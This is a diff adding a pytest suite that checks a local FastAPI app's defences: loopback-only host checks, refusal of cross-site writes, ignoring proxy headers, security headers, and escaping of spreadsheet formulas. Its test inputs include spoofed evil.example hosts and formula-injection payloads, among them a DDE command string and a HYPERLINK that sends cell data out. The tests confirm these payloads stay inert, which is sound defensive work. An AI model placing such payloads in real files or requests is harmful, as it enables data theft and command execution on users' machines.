@@ -1,0 +1,129 @@
+"""A local server a browser cannot be turned against: hosts, cross-site writes, proxies."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fastapi.testclient import TestClient
+from openpyxl import load_workbook
+
+from web.app import create_app
+from web.export import write_csv, write_xlsx
+from web.services import Services
+from web.settings import Settings
+
+LOCAL = "http://127.0.0.1:8000"
+
+
+def client(tmp_path: Path, base_url: str = LOCAL, **overrides: Any) -> TestClient:
+    values: dict[str, Any] = {
+        "data_dir": tmp_path / "data",
+        "rate_limit_per_minute": 0,
+        "allowed_hosts": "",  # the default, not the test suite's "testserver"
+        "auth": "auto",
+        "host": "127.0.0.1",
+    }
+    values.update(overrides)
+    settings = Settings(**values)
+    return TestClient(create_app(settings, Services(settings)), base_url=base_url)
+
+
+def test_local_mode_answers_only_loopback_hosts(tmp_path: Path) -> None:
+    with client(tmp_path) as c:
+        assert c.get("/healthz").status_code == 200
+        assert c.get("/healthz", headers={"Host": "localhost:8000"}).status_code == 200
+        assert c.get("/healthz", headers={"Host": "[::1]:8000"}).status_code == 200
+        for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example"):
+            r = c.get("/api/audit.csv", headers={"Host": host})
+            assert r.status_code == 400, host
+            assert r.json()["error"]["code"] == "host_not_allowed"
+            assert "DIGI_ALLOWED_HOSTS" in r.json()["error"]["message"]
+    with client(tmp_path, allowed_hosts="digirapport.intra") as c:
+        assert c.get("/healthz", headers={"Host": "digirapport.intra"}).status_code == 200
+        assert c.get("/healthz", headers={"Host": "evil.example"}).status_code == 400
+
+
+def test_with_keys_any_host_reaches_the_key_check(tmp_path: Path) -> None:
+    with client(tmp_path, auth="on") as c:
+        assert c.get("/healthz", headers={"Host": "digirapport.kommun.se"}).status_code == 200
+        assert c.get("/api/search?q=index", headers={"Host": "x.example"}).status_code == 401
+
+
+def test_cross_site_writes_are_refused(tmp_path: Path) -> None:
+    body = {"message": "Vad blev indexet 2025?"}
+    with client(tmp_path) as c:
+        for headers in (
+            {"Origin": "https://evil.example"},
+            {"Sec-Fetch-Site": "cross-site"},
+            {"Origin": "null"},
+        ):
+            r = c.post("/api/chat", json=body, headers=headers)
+            assert r.status_code == 403 and r.json()["error"]["code"] == "cross_site", headers
+        files = {"file": ("a.txt", b"Hej", "text/plain")}
+        r = c.post("/api/documents", files=files, headers={"Origin": "http://evil.example"})
+        assert r.status_code == 403
+        # the UI itself (same origin) and programs without browser headers are not affected
+        same = {"Origin": LOCAL, "Sec-Fetch-Site": "same-origin"}
+        assert c.post("/api/chat", json=body, headers=same).status_code == 200
+        assert c.post("/api/chat", json=body).status_code == 200
+        # reading is not a write: a cross-site GET is answered (the browser keeps it from the page)
+        assert c.get("/healthz", headers={"Origin": "https://evil.example"}).status_code == 200
+
+
+def test_a_proxy_on_the_same_host_does_not_make_requests_local(tmp_path: Path) -> None:
+    proxied = (
+        {"X-Forwarded-For": "203.0.113.9"},
+        {"Forwarded": "for=203.0.113.9"},
+        {"X-Real-IP": "203.0.113.9"},
+    )
+    with client(tmp_path) as c:
+        assert c.get("/api/search?q=index").status_code == 200  # straight from loopback
+        for headers in proxied:
+            r = c.get("/api/search?q=index", headers=headers)
+            assert r.status_code == 401, headers
+    with client(tmp_path, local_behind_proxy=True) as c:
+        assert c.get("/api/search?q=index", headers=proxied[0]).status_code == 200
+
+
+def test_security_headers(tmp_path: Path) -> None:
+    with client(tmp_path) as c:
+        page = c.get("/")
+        csp = page.headers["content-security-policy"]
+        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
+        assert "unsafe-inline" not in csp.split("script-src", 1)[1].split(";", 1)[0]
+        assert page.headers["x-frame-options"] == "DENY"
+        assert page.headers["referrer-policy"] == "no-referrer"
+        assert page.headers["x-content-type-options"] == "nosniff"
+        assert "content-security-policy" in c.get("/api/index/2025").headers
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://x?"&A2,"a")',
+        "=cmd|' /C calc'!A0",
+        "+SUM(1,2)",
+        "-2+3",
+        "@SUM(A1)",
+        "\tx",
+    ],
+)
+def test_spreadsheet_outputs_keep_formulas_as_text(tmp_path: Path, value: str) -> None:
+    import pandas as pd
+
+    frame = pd.DataFrame({"title": [value, "Vanlig titel"], "n": [1, 2]})
+    xlsx = tmp_path / "out.xlsx"
+    write_xlsx(frame, xlsx, "Förslag")
+    ws = load_workbook(xlsx).active
+    assert ws is not None
+    cell = ws["A2"]
+    assert cell.value == value and cell.data_type == "s"  # text, not a formula
+    assert ws["B2"].value == 1 and ws["A3"].value == "Vanlig titel"
+    out = tmp_path / "out.csv"
+    write_csv(frame, out)
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    assert rows[1][0] == "'" + value and rows[2][0] == "Vanlig titel"
